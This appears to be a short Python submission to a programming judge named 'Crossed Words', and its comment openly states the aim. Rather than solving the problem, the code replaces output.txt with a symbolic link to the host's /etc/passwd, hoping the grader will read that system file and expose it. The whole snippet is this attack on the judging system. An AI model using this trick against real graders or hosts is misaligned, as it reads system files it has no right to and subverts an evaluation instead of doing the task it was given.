# Crossed Words: output.txt a link to a file of the host's, in the hope the judge reads it.
import os

os.symlink("/etc/passwd", "output.txt")
